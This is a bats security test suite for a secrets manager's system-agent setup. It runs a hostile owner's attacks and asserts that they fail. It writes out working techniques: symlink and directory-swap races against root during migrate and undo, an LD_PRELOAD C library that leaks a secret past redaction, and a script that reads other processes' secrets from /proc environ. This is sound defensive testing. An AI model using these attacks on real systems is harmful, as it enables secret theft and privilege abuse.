#!/usr/bin/env bats
# Attacks on the dedicated run user (issue 18, docs/SYSTEM-AGENT.md) by a
# hostile owner uid. Each test states what an attacker of the owner's uid
# must NOT get; they fail today (findings) and pass once fixed.

load helpers
load skip
bats_require_minimum_version 1.5.0

RUN_USER=sc-atk-run
OWNER=sc-atk-own
BOB=sc-atk-bob

setup_file() {
	[ "$(id -u)" -eq 0 ] || return 0
	local u
	for u in "$OWNER" "$BOB"; do
		id "$u" >/dev/null 2>&1 || useradd --no-create-home --shell /bin/sh "$u"
	done
}

teardown_file() {
	[ "$(id -u)" -eq 0 ] || return 0
	local u
	for u in "$OWNER" "$BOB" "$RUN_USER"; do
		pkill -KILL -u "$u" 2>/dev/null || true
		userdel "$u" 2>/dev/null || true
	done
}

# as_user USER HOME CMD...
as_user() {
	local u=$1 h=$2
	shift 2
	setpriv --reuid="$u" --regid="$u" --clear-groups \
		env -u SECRETCTL_PASSWORD -u SECRETCTL_VAULT_DIR HOME="$h" \
		SECRETCTL_SYSTEM_DIR="$T/etc/secretctl" XDG_RUNTIME_DIR="$h/xdg" "$@"
}

# make_vault USER HOME MARKER: a vault in HOME/.secretctl with app/k=MARKER
make_vault() {
	local u=$1 h=$2 m=$3
	mkdir -p "$h/xdg"
	chown -R "$u:" "$h"
	chmod 700 "$h" "$h/xdg"
	printf '%s\n' "$SC_PW" | as_user "$u" "$h" "$SC_BIN" init --password-fd 0 "${SC_KDF[@]}" \
		2>/dev/null
	printf '%s' "$m" | as_user "$u" "$h" env SECRETCTL_PASSWORD="$SC_PW" \
		"$SC_BIN" set app/k 2>/dev/null
	printf 'version: 1\ndefault_action: deny\n# policy-of-%s\nrules:\n  - command: /usr/bin/sleep\n    secrets: [app/k]\n' \
		"$u" | as_user "$u" "$h" sh -c 'umask 077; cat > "$HOME/.secretctl/mcp-policy.yaml"'
}

setup() {
	[ "$(id -u)" -eq 0 ] || sc_skip "needs root: it creates users and root-owned files"
	command -v setpriv >/dev/null || sc_skip "needs setpriv (util-linux)"
	T=$(mktemp -d /tmp/sc-atk.XXXXXX)
	chmod 755 "$T"
	AGENT_PIDS=()
}

teardown() {
	local p
	for p in "${AGENT_PIDS[@]}"; do kill "$p" 2>/dev/null; done
	pkill -u "$RUN_USER" 2>/dev/null || true
	[ -n "${T:-}" ] && rm -rf "$T"
	return 0
}

# start_agent SETUP_OUT SOCKET
start_agent() {
	local cmd i
	cmd=$(sed -n 's/^  \(setpriv .*\)$/\1/p' "$1")
	[ -n "$cmd" ]
	$cmd >>"$T/agent.log" 2>&1 3>&- &
	AGENT_PIDS+=($!)
	for i in $(seq 1 100); do
		[ -S "$2" ] && return 0
		sleep 0.05
	done
	cat "$T/agent.log" >&2
	return 1
}

# FINDING 1 (fails today): --migrate follows a symlink at the vault path.
# The owner points ~/.secretctl at another user's vault; root moves that
# vault under the owner's run user and deletes the victim's copy.
@test "migrate refuses a vault path that is a symlink to someone else's vault" {
	make_vault "$BOB" "$T/bhome" bob-secret-1
	mkdir -p "$T/ahome"
	chown "$OWNER:" "$T/ahome"
	chmod 700 "$T/ahome"
	# the owner's only act: a symlink in his own home
	as_user "$OWNER" "$T/ahome" ln -s "$T/bhome/.secretctl" "$T/ahome/.secretctl"
	run "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl"
	[ "$status" -ne 0 ]
	# the victim's vault is where it was, whole
	[ -f "$T/bhome/.secretctl/vault.db" ]
	[ ! -e "$T/var/lib/secretctl/$OWNER/vault.db" ]
}

# FINDING 2 (fails today): after the copy, relocate removes the originals by
# path again (remove_files(from, ...)); the owner swaps his vault directory
# for a symlink while root copies a big file, and root unlinks the same
# names in a directory of the attacker's choosing.
@test "migrate does not delete files in a directory swapped in during the copy" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	# a root-owned directory the owner cannot write, with files that have
	# the names of the owner's vault files
	mkdir -m 755 "$T/rootdir"
	cp "$T/ahome/.secretctl/vault.db" "$T/rootdir/vault.db"
	echo precious >"$T/rootdir/victim"
	chmod 644 "$T/rootdir/victim"
	# a big file the owner adds to widen the window
	as_user "$OWNER" "$T/ahome" truncate -s 1500M "$T/ahome/.secretctl/victim"
	# wait until root is copying (the big file appears at the destination),
	# then swap the directory for a symlink to the root-owned one
	(
		i=0
		while [ ! -e "$T/var/lib/secretctl/$OWNER/victim" ] && [ $i -lt 4000 ]; do
			i=$((i + 1))
			sleep 0.005
		done
		as_user "$OWNER" "$T/ahome" sh -c '
			d="$HOME/.secretctl"
			mv "$d" "$HOME/.moved" && ln -s "'"$T/rootdir"'" "$d" && echo swapped'
	) >"$T/swap.out" 2>&1 3>&- &
	local swapper=$!
	run "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl"
	wait "$swapper" || true
	cat "$T/swap.out"
	grep -q swapped "$T/swap.out"
	# root must not have removed a file the owner could not remove himself
	[ -f "$T/rootdir/victim" ]
	[ -f "$T/rootdir/vault.db" ]
}

# FINDING 3 (fails today): two owners set up with the same run user share
# a uid: either owner, with his own password, runs code as that uid and
# reads the other's vault directory (and his running children's /proc).
@test "a run user already serving one owner is not shared with another" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	make_vault "$BOB" "$T/bhome" bob-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >"$T/a.out"
	start_agent "$T/a.out" "$T/run/secretctl/$OWNER.sock"
	run "$SC_BIN" setup system-agent --owner "$BOB" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/bhome/.secretctl"
	if [ "$status" -ne 0 ]; then
		return 0 # refused: the fix
	fi
	# the owner forwards a run with his own password, as the run user
	run as_user "$OWNER" "$T/ahome" env SECRETCTL_PASSWORD="$SC_PW" SECRETCTL_NO_AGENT=1 \
		"$SC_BIN" run -k app/k -- cat "$T/var/lib/secretctl/$BOB/mcp-policy.yaml"
	echo "$output"
	[[ "$output" != *"policy-of-$BOB"* ]]
}

# FINDING 4 (fails today): --undo creates the restore directory by path,
# following symlinks in its parents: the owner turns a parent into a
# symlink and root makes a directory he owns wherever he likes.
@test "undo does not follow a symlinked parent of the restore path" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	as_user "$OWNER" "$T/ahome" sh -c 'mkdir "$HOME/v" && mv "$HOME/.secretctl" "$HOME/v/main"'
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/v/main" >/dev/null
	mkdir -m 755 "$T/rootdir"
	as_user "$OWNER" "$T/ahome" sh -c 'rmdir "$HOME/v" && ln -s "'"$T/rootdir"'" "$HOME/v"'
	run "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" --undo
	# root made nothing the owner owns in a directory only root may write
	[ ! -e "$T/rootdir/main" ]
	[ "$status" -ne 0 ]
	[ -f "$T/var/lib/secretctl/$OWNER/vault.db" ]
}

# ---- the adversarial corpus: attempts that are refused today (pass) ----

@test "corpus: migrate refuses a FIFO in the vault directory, moves nothing" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	as_user "$OWNER" "$T/ahome" mkfifo "$T/ahome/.secretctl/pipe"
	run timeout 20 "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" \
		--root "$T" --migrate --from "$T/ahome/.secretctl"
	[ "$status" -eq 2 ]
	[[ "$output" == *"not a plain file"* ]]
	[ -f "$T/ahome/.secretctl/vault.db" ]
	[ ! -e "$T/var/lib/secretctl/$OWNER" ]
}

@test "corpus: migrate refuses a symlink inside the vault directory" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	echo root-only >"$T/secretfile"
	chmod 600 "$T/secretfile"
	as_user "$OWNER" "$T/ahome" ln -s "$T/secretfile" "$T/ahome/.secretctl/leak"
	run "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl"
	[ "$status" -eq 2 ]
	[[ "$output" == *"not a plain file"* ]]
	[ ! -e "$T/var/lib/secretctl/$OWNER" ]
}

@test "corpus: undo refuses a symlink planted at the restore path" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >/dev/null
	mkdir -m 755 "$T/rootdir"
	as_user "$OWNER" "$T/ahome" ln -s "$T/rootdir/x" "$T/ahome/.secretctl"
	run "$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" --undo
	[ "$status" -ne 0 ]
	[[ "$output" == *"File exists"* ]]
	[ ! -e "$T/rootdir/x" ]
	[ -f "$T/var/lib/secretctl/$OWNER/vault.db" ]
}

@test "corpus: a configuration directory the owner owns is refused, not followed" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >/dev/null
	mkdir "$T/ahome/etc"
	cp "$T/etc/secretctl/"*.conf "$T/ahome/etc/"
	chown -R "$OWNER:" "$T/ahome/etc"
	run as_user "$OWNER" "$T/ahome" env SECRETCTL_SYSTEM_DIR="$T/ahome/etc" "$SC_BIN" list
	[ "$status" -eq 5 ]
	[[ "$output" == *"someone other than root"* ]]
}

@test "corpus: a forward with a wrong password is refused after a pause and audited" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >"$T/a.out"
	start_agent "$T/a.out" "$T/run/secretctl/$OWNER.sock"
	local t0=$SECONDS
	run as_user "$OWNER" "$T/ahome" env SECRETCTL_PASSWORD=wrong-guess SECRETCTL_NO_AGENT=1 \
		"$SC_BIN" run -k app/k -- cat "$T/var/lib/secretctl/$OWNER/mcp-policy.yaml"
	[ "$status" -eq 4 ]
	[ $((SECONDS - t0)) -ge 2 ]
	[[ "$output" != *"policy-of"* ]]
	run as_user "$OWNER" "$T/ahome" env SECRETCTL_PASSWORD="$SC_PW" SECRETCTL_NO_AGENT=1 \
		"$SC_BIN" audit list --op unlock
	[[ "$output" == *"error:auth"* ]]
}

# FINDING 5 (fails today): without the password, the owner's uid (an AI's
# shell) asks the unlocked agent for a run the policy allows (sleep with
# app/k) with a preload library in its environment; the child, as the run
# user, loads it and prints the value reversed, past the redaction.
@test "a policy run without the password does not take LD_PRELOAD from the caller" {
	command -v cc >/dev/null || sc_skip "needs a C compiler"
	make_vault "$OWNER" "$T/ahome" own-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >"$T/a.out"
	start_agent "$T/a.out" "$T/run/secretctl/$OWNER.sock"
	cat >"$T/evil.c" <<'C'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
__attribute__((constructor)) static void leak(void)
{
	const char *v = getenv("APP_K");
	size_t n;
	if (v == NULL)
		return;
	fputs("LEAK:", stderr);
	for (n = strlen(v); n > 0; n--)
		fputc(v[n - 1], stderr);
	fputc('\n', stderr);
}
C
	cc -shared -fPIC -o "$T/evil.so" "$T/evil.c"
	chmod 755 "$T/evil.so"
	printf '%s\n' "$SC_PW" | as_user "$OWNER" "$T/ahome" "$SC_BIN" unlock --password-fd 0
	run as_user "$OWNER" "$T/ahome" env LD_PRELOAD="$T/evil.so" \
		"$SC_BIN" run -k app/k -- /usr/bin/sleep 0
	echo "$output"
	[[ "$output" != *"LEAK:1-terces-nwo"* ]]
}

# FINDING 3, the consequence (fails today): with a shared run user, one
# owner reads another owner's running secret from /proc, with his own
# password only.
@test "one owner cannot read another owner's running child through a shared run user" {
	make_vault "$OWNER" "$T/ahome" own-secret-1
	make_vault "$BOB" "$T/bhome" bob-secret-1
	"$SC_BIN" setup system-agent --owner "$OWNER" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/ahome/.secretctl" >"$T/a.out"
	start_agent "$T/a.out" "$T/run/secretctl/$OWNER.sock"
	run "$SC_BIN" setup system-agent --owner "$BOB" --user "$RUN_USER" --root "$T" \
		--migrate --from "$T/bhome/.secretctl"
	if [ "$status" -ne 0 ]; then
		return 0 # refused: the fix
	fi
	echo "$output" >"$T/b.out"
	start_agent "$T/b.out" "$T/run/secretctl/$BOB.sock"
	printf '%s\n' "$SC_PW" | as_user "$BOB" "$T/bhome" "$SC_BIN" unlock --password-fd 0
	(cd / || exit 1
	timeout 20 setpriv --reuid="$BOB" --regid="$BOB" --clear-groups env \
		HOME="$T/bhome" SECRETCTL_SYSTEM_DIR="$T/etc/secretctl" \
		XDG_RUNTIME_DIR="$T/bhome/xdg" "$SC_BIN" run -k app/k -- /usr/bin/sleep 8 \
		</dev/null >"$T/bobrun.out" 2>&1) &
	local bobrun=$!
	sleep 2
	# the attacker's script, run as the shared run user by his own agent
	cat >"$T/scan.sh" <<'SH'
for p in /proc/[0-9]*; do
	{ tr '\0' '\n' <"$p/environ"; } 2>/dev/null | grep '^APP_K=' | rev
done
SH
	chmod 644 "$T/scan.sh"
	run as_user "$OWNER" "$T/ahome" env SECRETCTL_PASSWORD="$SC_PW" SECRETCTL_NO_AGENT=1 \
		"$SC_BIN" run -k app/k -- /bin/sh "$T/scan.sh"
	echo "$output"
	cat "$T/bobrun.out"
	wait "$bobrun" || true
	[[ "$output" != *"1-terces-bob"* ]]
}
